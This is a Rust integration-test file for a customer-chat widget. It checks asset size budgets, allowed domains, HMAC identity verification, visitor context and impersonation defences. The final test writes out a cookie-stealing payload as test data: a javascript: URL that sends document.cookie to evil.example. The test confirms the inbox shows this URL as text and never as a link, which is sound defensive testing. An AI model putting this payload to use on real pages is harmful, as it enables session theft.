//! The widget's HTTP side: the loader and window, allowed domains, identity verification,
//! visitor context, and the settings page with its tenant rules.

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::{
    helpers::{Person, Role, TestApp, TestWorkspace, spawn_app, unescape_html},
    socket_client::Socket,
};

fn settings_form<'a>(overrides: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> {
    let mut fields = vec![
        ("color", "#0f766e"),
        ("position", "left"),
        ("greeting", "Hello from the test team"),
        ("launcher_text", "Chat with us"),
        ("reply_time", "hours"),
        ("sound", "on"),
        ("allowed_domains", ""),
    ];
    for (key, value) in overrides {
        fields.retain(|(k, _)| k != key);
        fields.push((key, value));
    }
    fields
}

async fn post_session(app: &TestApp, origin: Option<&str>, body: Value) -> (StatusCode, Value) {
    let mut request = reqwest::Client::new()
        .post(format!("{}/api/widget/v1/sessions", app.address))
        .header("content-type", "text/plain")
        .header(
            "user-agent",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        )
        .body(body.to_string());
    if let Some(origin) = origin {
        request = request.header("origin", origin);
    }
    let response = request.send().await.unwrap();
    let status = response.status();
    (status, response.json().await.unwrap_or(Value::Null))
}

fn hmac_hex(secret: &str, id: &str) -> String {
    parlor::widget::settings::identity_hash(secret, id)
}

#[tokio::test]
async fn the_loader_and_the_window_are_served_small_and_gzipped() {
    let app = spawn_app().await;
    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
    let client = reqwest::Client::builder().no_gzip().build().unwrap();
    let loader = client.get(format!("{}/widget.js", app.address)).header("accept-encoding", "gzip").send().await.unwrap();
    assert_eq!(loader.status(), 200);
    assert_eq!(loader.headers()["content-encoding"], "gzip");
    assert!(loader.headers()["content-type"].to_str().unwrap().starts_with("text/javascript"));
    assert!(loader.bytes().await.unwrap().len() <= 5 * 1024, "the loader's budget is 5 KB gzipped");

    let frame = app.browser.get(&format!("/widget/v1/frame?site_key={site_key}")).await;
    assert_eq!(frame.status(), 200);
    let policy = frame.headers()["content-security-policy"].to_str().unwrap().to_string();
    assert!(policy.contains("frame-ancestors *"), "any site may frame it while no domain is set: {policy}");
    let html = frame.text().await.unwrap();
    assert!(html.contains(r#"<label for="composer-input" class="visually-hidden">Message</label>"#));
    assert!(html.contains(r#"aria-label="Send""#));
    assert!(html.contains(r#"<button type="button" class="attach" aria-label="Attach a file">"#));

    // Before its first paint the window loads its HTML, stylesheet and script: 12 KB gzipped at
    // most. The code that sends files loads only when a visitor attaches one.
    let asset = |name: &str| {
        // "/widget/v1/frame.js?v=...", "/widget/v1/en/upload.js?v=..." (a script per language).
        let at = html.find(&format!("/{name}?v=")).unwrap_or_else(|| panic!("the window names {name}"));
        let start = html[..at].rfind('"').unwrap() + 1;
        html[start..].split('"').next().unwrap().to_string()
    };
    // In every language: the window carries its texts inline.
    for lang in parlor::i18n::LANGUAGES.iter().map(|l| l.code) {
        let mut first_paint = 0;
        for path in [format!("/widget/v1/frame?site_key={site_key}&lang={lang}"), asset("frame.css"), asset("frame.js")] {
            let response = client.get(format!("{}{path}", app.address)).header("accept-encoding", "gzip").send().await.unwrap();
            assert_eq!(response.headers()["content-encoding"], "gzip", "{path}");
            first_paint += response.bytes().await.unwrap().len();
        }
        eprintln!("first paint in {lang}: {first_paint} bytes gzipped");
        assert!(first_paint <= 12 * 1024, "the window's first paint in {lang} weighs {first_paint} bytes gzipped, past its 12 KB budget");
    }
    // Loaded on first use: sending files, and the list of conversations with transcripts.
    for lazy in ["upload.js", "conversations.js", "frame-more.css"] {
        let code = client.get(format!("{}{}", app.address, asset(lazy))).header("accept-encoding", "gzip").send().await.unwrap();
        assert_eq!(code.status(), 200, "{lazy}");
        assert_eq!(code.headers()["content-encoding"], "gzip");
        assert_eq!(code.headers()["cache-control"], "public, max-age=31536000, immutable");
        assert!(code.headers()["content-type"].to_str().unwrap().starts_with(if lazy.ends_with(".js") {
            "text/javascript"
        } else {
            "text/css"
        }));
    }

    let unknown = app.browser.get("/widget/v1/frame?site_key=pk_nope").await;
    assert_eq!(unknown.status(), 404);
}

#[tokio::test]
async fn an_admin_saves_the_widget_and_visitors_get_it() {
    let app = spawn_app().await;
    let TestWorkspace { id, site_key, .. } = app.sign_up_workspace().await;
    let response = app
        .browser
        .post_form(&format!("/app/{id}/widget"), &settings_form(&[("allowed_domains", "https://Shop.Example.com/cart\nlocalhost:3000")]))
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let page = unescape_html(&app.browser.get_html(&format!("/app/{id}/widget?notice=widget_saved")).await);
    assert!(page.contains("The widget settings are saved."));
    assert!(page.contains("shop.example.com\nlocalhost:3000"), "domains are normalised");

    let (status, session) = post_session(&app, Some("https://shop.example.com"), json!({"site_key": site_key})).await;
    assert_eq!(status, 200, "{session}");
    assert_eq!(session["settings"]["color"], "#0f766e");
    assert_eq!(session["settings"]["color_text"], "#ffffff");
    assert_eq!(session["settings"]["position"], "left");
    assert_eq!(session["settings"]["greeting"], "Hello from the test team");
    assert_eq!(session["settings"]["launcher_text"], "Chat with us");
    assert!(session["settings"].get("identity_secret").is_none(), "the secret never reaches a page");
    assert_eq!(session["agents"][0]["name"], "Ada");

    let frame = app.browser.get(&format!("/widget/v1/frame?site_key={site_key}")).await;
    let policy = frame.headers()["content-security-policy"].to_str().unwrap().to_string();
    assert!(policy.contains("https://shop.example.com https://*.shop.example.com"), "{policy}");
    assert!(policy.contains("http://localhost:3000"), "{policy}");
    assert!(!policy.contains("frame-ancestors *"), "{policy}");
}

#[tokio::test]
async fn bad_settings_are_refused_with_their_reasons_and_change_nothing() {
    let app = spawn_app().await;
    let TestWorkspace { id, .. } = app.sign_up_workspace().await;
    let long_greeting = "x".repeat(501);
    let response = app
        .browser
        .post_form(
            &format!("/app/{id}/widget"),
            &settings_form(&[
                ("color", "blue"),
                ("allowed_domains", "shop.example.com\nhttp://bad_domain.com\n'self'"),
                ("greeting", &long_greeting),
            ]),
        )
        .await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let page = unescape_html(&response.text().await.unwrap());
    assert!(page.contains("Enter a color like #2563eb."));
    assert!(page.contains("These are not domains: http://bad_domain.com, 'self'."), "{page}");
    assert!(page.contains("Keep the greeting under 500 characters."));
    // What is stored, not what a page shows back.
    assert_eq!(app.query_string("SELECT color AS value FROM widget_settings").as_deref(), Some("#2563eb"));
}

#[tokio::test]
async fn only_admins_change_the_widget_and_another_workspace_answers_404() {
    let app = spawn_app().await;
    let ws = app.sign_up_workspace().await;
    let id = ws.id.clone();
    // Someone else, with a workspace of their own.
    let other = Person::new("Grace");
    let stranger = app.new_browser();
    stranger.sign_up_ok(&other).await;
    assert_eq!(stranger.get(&format!("/app/{id}/widget")).await.status(), 404);
    assert_eq!(stranger.post_form(&format!("/app/{id}/widget"), &settings_form(&[])).await.status(), 404);
    assert_eq!(stranger.post_form(&format!("/app/{id}/widget/identity-secret"), &[]).await.status(), 404);

    // An agent of the workspace sees the snippet, not the settings or the secret.
    let secret = Some(ws.identity_secret().await);
    ws.add_existing_member(&stranger, &other, Role::Agent).await;
    let page = stranger.get_html(&format!("/app/{id}/widget")).await;
    assert!(page.contains("Only owners and admins can change how the widget looks"));
    if let Some(secret) = secret {
        assert!(!page.contains(&secret));
    }
    assert_eq!(stranger.post_form(&format!("/app/{id}/widget"), &settings_form(&[("color", "#000000")])).await.status(), 403);
    assert_eq!(stranger.post_form(&format!("/app/{id}/widget/identity-secret"), &[]).await.status(), 403);
    // What is stored, not what a page shows back.
    assert_ne!(app.query_string("SELECT color AS value FROM widget_settings").as_deref(), Some("#000000"));
}

#[tokio::test]
async fn a_site_that_is_not_allowed_gets_no_session_and_no_socket() {
    let app = spawn_app().await;
    let TestWorkspace { id, site_key, .. } = app.sign_up_workspace().await;
    let (_, session) = post_session(&app, Some("https://example.com"), json!({"site_key": site_key})).await;
    let token = session["visitor_token"].as_str().unwrap().to_string();
    app.browser.post_form(&format!("/app/{id}/widget"), &settings_form(&[("allowed_domains", "example.com")])).await;

    let (status, refused) = post_session(&app, Some("https://evil.io"), json!({"site_key": site_key})).await;
    assert_eq!(status, 403);
    assert!(refused["error"]["message"].as_str().unwrap().contains("allowed domains"), "{refused}");
    let contacts = app.count("contacts");
    let (status, _) = post_session(&app, Some("https://www.example.com"), json!({"site_key": site_key})).await;
    assert_eq!(status, 200, "a subdomain of an allowed domain");
    assert_eq!(app.count("contacts"), contacts + 1);

    let mut socket = Socket::open(&app.address, &[("origin", "https://evil.io".into())]).await;
    socket.send(json!({"type": "hello", "visitor_token": token})).await;
    assert_eq!(socket.expect("error").await["code"], "origin_not_allowed");
    let (_socket, welcome) = Socket::visitor(&app, &token, json!({})).await;
    assert_eq!(welcome["role"], "visitor", "Parlor's own window (no foreign Origin) still connects");
}

#[tokio::test]
async fn identities_need_a_valid_hash_when_the_workspace_requires_it() {
    let app = spawn_app().await;
    let ws = app.sign_up_workspace().await;
    let (id, site_key) = (&ws.id, &ws.site_key);
    app.browser.post_form(&format!("/app/{id}/widget"), &settings_form(&[("identity_required", "on")])).await;
    let secret = ws.identity_secret().await;
    let contacts = app.count("contacts");

    let user = |hash: Option<String>| json!({"site_key": site_key, "user": {"id": "user-42", "email": "lin@example.com", "name": "Lin", "user_hash": hash}});
    let (status, refused) = post_session(&app, None, user(Some(hmac_hex("wrong secret", "user-42")))).await;
    assert_eq!(status, 403, "{refused}");
    let (status, _) = post_session(&app, None, user(None)).await;
    assert_eq!(status, 403);
    assert_eq!(app.count("contacts"), contacts, "a refused identity creates nothing");

    let (status, first) = post_session(&app, None, user(Some(hmac_hex(&secret, "user-42")))).await;
    assert_eq!(status, 200, "{first}");
    assert_eq!(first["visitor"]["identified"], true);
    assert_eq!(first["visitor"]["email"], "lin@example.com");
    // The same user on another device is the same contact.
    let (_, second) = post_session(&app, None, user(Some(hmac_hex(&secret, "user-42")))).await;
    assert_eq!(second["visitor_id"], first["visitor_id"]);
    assert_ne!(second["visitor_token"], first["visitor_token"]);

    // After a rotation, hashes made with the old secret are refused.
    app.browser.post_form(&format!("/app/{id}/widget/identity-secret"), &[]).await;
    let (status, _) = post_session(&app, None, user(Some(hmac_hex(&secret, "user-42")))).await;
    assert_eq!(status, 403);
}

#[tokio::test]
async fn an_anonymous_visitor_who_identifies_keeps_their_conversation() {
    let app = spawn_app().await;
    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
    let (_, anonymous) = post_session(&app, None, json!({"site_key": site_key})).await;
    let token = anonymous["visitor_token"].as_str().unwrap();
    let (mut socket, _) = Socket::visitor(&app, token, json!({})).await;
    socket.say(None, "Where is my order?").await;
    socket.expect("ack").await;
    let (status, identified) =
        post_session(&app, None, json!({"site_key": site_key, "visitor_token": token, "user": {"id": "u-7", "name": "Kim"}})).await;
    assert_eq!(status, 200, "verification is off: no hash needed");
    assert_eq!(identified["visitor_id"], anonymous["visitor_id"]);
    assert_eq!(identified["conversations"].as_array().unwrap().len(), 1);
    assert_eq!(identified["visitor"]["name"], "Kim");
}

#[tokio::test]
async fn the_widget_reports_where_the_visitor_is() {
    let app = spawn_app().await;
    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
    let context = json!({"url": "https://shop.example.com/pricing", "title": "Pricing", "referrer": "https://search.example/",
        "language": "fr-FR", "time_zone": "Europe/Paris"});
    let (status, session) =
        post_session(&app, None, json!({"site_key": site_key, "context": context, "attributes": {"plan": "pro"}})).await;
    assert_eq!(status, 200, "{session}");
    let row = |column: &str| app.query_string(&format!("SELECT {column}::text AS value FROM contacts"));
    assert_eq!(row("current_url").as_deref(), Some("https://shop.example.com/pricing"));
    assert_eq!(row("page_title").as_deref(), Some("Pricing"));
    assert_eq!(row("language").as_deref(), Some("fr-FR"));
    assert_eq!(row("time_zone").as_deref(), Some("Europe/Paris"));
    assert_eq!(row("browser").as_deref(), Some("Chrome 131.0.0.0"));
    assert_eq!(row("os").as_deref(), Some("Mac OSX 10.15.7"));
    assert_eq!(row("attributes->>'plan'").as_deref(), Some("pro"));

    // As the visitor navigates.
    let token = session["visitor_token"].as_str().unwrap();
    let client = reqwest::Client::new();
    let moved = client
        .post(format!("{}/api/widget/v1/context", app.address))
        .body(json!({"visitor_token": token, "context": {"url": "https://shop.example.com/checkout", "title": "Checkout"}}).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(moved.status(), 204);
    assert_eq!(row("current_url").as_deref(), Some("https://shop.example.com/checkout"));
    assert_eq!(row("language").as_deref(), Some("fr-FR"), "what was not sent is kept");

    // Bad input: a clear error, nothing changed.
    let too_long = "https://x.example/".to_string() + &"a".repeat(2000);
    let refused = client
        .post(format!("{}/api/widget/v1/context", app.address))
        .body(json!({"visitor_token": token, "context": {"url": too_long}}).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), 400);
    let body: Value = refused.json().await.unwrap();
    assert!(body["error"]["message"].as_str().unwrap().contains("context.url is longer than 2000"));
    assert_eq!(row("current_url").as_deref(), Some("https://shop.example.com/checkout"));
    let bad_email = client
        .post(format!("{}/api/widget/v1/context", app.address))
        .body(json!({"visitor_token": token, "email": "nope"}).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(bad_email.status(), 400);
    let email = client
        .post(format!("{}/api/widget/v1/context", app.address))
        .body(json!({"visitor_token": token, "email": "kim@example.com"}).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(email.status(), 204);
    assert_eq!(row("email").as_deref(), Some("kim@example.com"));
}

#[tokio::test]
async fn shutdown_ends_the_visitor_session() {
    let app = spawn_app().await;
    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
    let (_, session) = post_session(&app, None, json!({"site_key": site_key})).await;
    let token = session["visitor_token"].as_str().unwrap();
    let ended = reqwest::Client::new()
        .post(format!("{}/api/widget/v1/sessions/end", app.address))
        .body(json!({"visitor_token": token}).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(ended.status(), 204);
    let mut socket = Socket::open(&app.address, &[]).await;
    socket.send(json!({"type": "hello", "visitor_token": token})).await;
    assert_eq!(socket.expect("error").await["code"], "unauthorized");
}

#[tokio::test]
async fn visitors_see_whether_someone_is_online() {
    let app = spawn_app().await;
    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
    let (_, before) = post_session(&app, None, json!({"site_key": site_key})).await;
    assert_eq!(before["agents_online"], false, "no agent has the inbox open");
    let mut agent = Socket::agent(&app, &app.browser).await;
    let (_, during) = post_session(&app, None, json!({"site_key": site_key})).await;
    assert_eq!(during["agents_online"], true);
    agent.send(json!({"type": "presence", "status": "away"})).await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let (_, away) = post_session(&app, None, json!({"site_key": site_key})).await;
    assert_eq!(away["agents_online"], false, "an away agent does not count");
}

/// Behind a load balancer: an inbox open on one instance counts for visitors of another, and
/// stops counting once it is closed.
#[tokio::test]
async fn an_agent_online_on_another_instance_counts() {
    let app = spawn_app().await;
    let other = crate::helpers::spawn_instance_of(&app, |_| {}).await;
    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
    let agent = Socket::agent(&app, &app.browser).await;
    let online = |expected: bool| {
        let (other, site_key) = (&other, site_key.clone());
        async move {
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
            loop {
                let (_, session) = post_session(other, None, json!({"site_key": site_key})).await;
                if session["agents_online"] == expected {
                    return;
                }
                assert!(std::time::Instant::now() < deadline, "agents_online never became {expected}");
                tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            }
        }
    };
    online(true).await;
    agent.close().await;
    online(false).await;
}

#[tokio::test]
async fn an_identity_claimed_without_a_hash_never_reaches_the_real_contact() {
    let app = spawn_app().await;
    let ws = app.sign_up_workspace().await;
    let (id, site_key) = (&ws.id, &ws.site_key);
    let secret = ws.identity_secret().await;
    // User 42 signs in on the shop; the shop signs their id, and they ask something private.
    let verified = json!({"site_key": site_key, "user": {"id": "42", "email": "lin@example.com", "name": "Lin", "user_hash": hmac_hex(&secret, "42")}});
    let (status, lin) = post_session(&app, None, verified.clone()).await;
    assert_eq!(status, 200, "{lin}");
    assert_eq!(lin["visitor"]["identified"], true);
    let (mut lin_socket, _) = Socket::visitor(&app, lin["visitor_token"].as_str().unwrap(), json!({})).await;
    lin_socket.say(None, "My card ending 4242 was charged twice").await;
    let conversation = lin_socket.expect("ack").await["conversation_id"].as_str().unwrap().to_string();

    // Someone else says they are user 42, with no hash (verification is off, the default).
    let claim = json!({"site_key": site_key, "user": {"id": "42", "email": "attacker@evil.example", "name": "Mallory"}});
    let (status, mallory) = post_session(&app, None, claim).await;
    assert_eq!(status, 200, "a claim is accepted, as a claim: {mallory}");
    assert_ne!(mallory["visitor_id"], lin["visitor_id"], "a contact of their own");
    assert_eq!(mallory["visitor"]["identified"], false);
    assert_eq!(mallory["visitor"]["email"], "attacker@evil.example");
    assert_eq!(mallory["conversations"], json!([]), "none of Lin's conversations");
    let (mut socket, welcome) = Socket::visitor(&app, mallory["visitor_token"].as_str().unwrap(), json!({ conversation.clone(): 0 })).await;
    assert_eq!(welcome["conversations"], json!([]));
    assert_eq!(socket.expect("error").await["code"], "not_found", "resuming Lin's conversation replays nothing");
    socket.say(Some(&conversation), "Please refund to my new card").await;
    assert_eq!(socket.expect("error").await["code"], "not_found", "nor can they write into it");
    let lin_row = |column: &str| {
        app.query_string(&format!("SELECT {column}::text AS value FROM contacts WHERE id = '{}'", lin["visitor_id"].as_str().unwrap()))
    };
    assert_eq!(lin_row("email").as_deref(), Some("lin@example.com"), "Lin's details are untouched");
    assert_eq!(lin_row("name").as_deref(), Some("Lin"));
    assert_eq!(app.count("messages"), 1);

    // The inbox and the API show the claim for what it is.
    let page = app.browser.get_html(&format!("/app/{id}/inbox/{conversation}")).await;
    assert!(page.contains(">verified</span>") && !page.contains("Identity not verified"), "Lin is shown verified");
    let mallory_id = mallory["visitor_id"].as_str().unwrap();
    socket.say(None, "Hello?").await;
    let theirs = socket.expect("ack").await["conversation_id"].as_str().unwrap().to_string();
    let page = unescape_html(&app.browser.get_html(&format!("/app/{id}/inbox/{theirs}")).await);
    assert!(page.contains("Identity not verified"), "the claimed contact is flagged");
    assert!(page.contains(">unverified</span>"));
    let verified_flag = app.query_string(&format!("SELECT identity_verified::text AS value FROM contacts WHERE id = '{mallory_id}'"));
    assert_eq!(verified_flag.as_deref(), Some("false"));

    // Lin on a second device, verified again, is Lin.
    let (_, again) = post_session(&app, None, verified).await;
    assert_eq!(again["visitor_id"], lin["visitor_id"]);
    assert_eq!(again["conversations"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn a_claimed_visitor_who_later_verifies_becomes_the_real_contact() {
    let app = spawn_app().await;
    let ws = app.sign_up_workspace().await;
    let site_key = &ws.site_key;
    let secret = ws.identity_secret().await;
    let (_, claimed) = post_session(&app, None, json!({"site_key": site_key, "user": {"id": "u-9", "name": "Kim"}})).await;
    assert_eq!(claimed["visitor"]["identified"], false);
    let token = claimed["visitor_token"].as_str().unwrap();
    let (_, verified) = post_session(
        &app,
        None,
        json!({"site_key": site_key, "visitor_token": token, "user": {"id": "u-9", "name": "Kim", "user_hash": hmac_hex(&secret, "u-9")}}),
    )
    .await;
    assert_eq!(verified["visitor_id"], claimed["visitor_id"], "the browser's own contact is upgraded");
    assert_eq!(verified["visitor"]["identified"], true);
    // A second claim of u-9, without a hash, does not join the now verified contact.
    let (_, other) = post_session(&app, None, json!({"site_key": site_key, "user": {"id": "u-9"}})).await;
    assert_ne!(other["visitor_id"], claimed["visitor_id"]);
}

#[tokio::test]
async fn a_page_url_that_is_not_http_is_shown_as_text_never_as_a_link() {
    let app = spawn_app().await;
    let TestWorkspace { id, site_key, .. } = app.sign_up_workspace().await;
    let evil = "javascript:fetch('//evil.example/?c='+document.cookie)";
    let (_, session) = post_session(&app, None, json!({"site_key": site_key, "context": {"url": evil, "title": "Pricing"}})).await;
    let (mut socket, _) = Socket::visitor(&app, session["visitor_token"].as_str().unwrap(), json!({})).await;
    socket.say(None, "Hi").await;
    let conversation = socket.expect("ack").await["conversation_id"].as_str().unwrap().to_string();
    let page = unescape_html(&app.browser.get_html(&format!("/app/{id}/inbox/{conversation}")).await);
    assert!(page.contains(evil), "the URL is shown for what it is");
    assert!(!page.contains(&format!("href=\"{evil}\"")), "but never as a link");
    assert!(!page.to_lowercase().contains("href=\"javascript:"));

    let (_, session) = post_session(&app, None, json!({"site_key": site_key, "context": {"url": "https://shop.example.com/cart"}})).await;
    let (mut socket, _) = Socket::visitor(&app, session["visitor_token"].as_str().unwrap(), json!({})).await;
    socket.say(None, "Hi again").await;
    let conversation = socket.expect("ack").await["conversation_id"].as_str().unwrap().to_string();
    let page = app.browser.get_html(&format!("/app/{id}/inbox/{conversation}")).await;
    assert!(page.contains("href=\"https://shop.example.com/cart\""), "an http(s) page is a link");
}
